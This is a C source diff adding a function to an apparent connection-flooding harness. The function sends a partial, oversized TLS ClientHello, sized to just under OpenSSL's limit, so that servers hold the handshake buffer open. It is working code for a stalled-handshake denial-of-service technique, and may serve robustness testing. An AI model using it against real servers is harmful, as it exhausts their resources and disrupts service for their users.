@@ -87,6 +87,27 @@ int flood_count_closed(const int *fds, int n, int wait_ms) {
     return count_closed_now(fds, n);
 }
 
+int flood_hello_stall(const char *addr, const char *src, size_t bytes) {
+    int fd = flood_connect(addr, src);
+    if (fd < 0) return -1;
+    /* one ClientHello of 120,000 bytes (OpenSSL takes up to 131,396), sent
+     * in TLS records of at most 16 KiB, of which `bytes` go */
+    static uint8_t rec[5 + 16384];
+    size_t sent = 0;
+    int first = 1;
+    while (sent < bytes) {
+        size_t n = bytes - sent > 16000 ? 16000 : bytes - sent;
+        rec[0] = 0x16, rec[1] = 0x03, rec[2] = 0x01;
+        rec[3] = (uint8_t)(n >> 8), rec[4] = (uint8_t)n;
+        memset(rec + 5, 0x41, n);
+        if (first) rec[5] = 0x01, rec[6] = 0x01, rec[7] = 0xd4, rec[8] = 0xc0; /* 120,000 */
+        first = 0;
+        if (write(fd, rec, 5 + n) != (ssize_t)(5 + n)) break;
+        sent += n;
+    }
+    return fd;
+}
+
 static int send_all(FloodTls *t, const uint8_t *p, size_t n) {
     while (n > 0) {
         int w = SSL_write(t->ssl, p, (int)(n > 1 << 30 ? 1 << 30 : n));
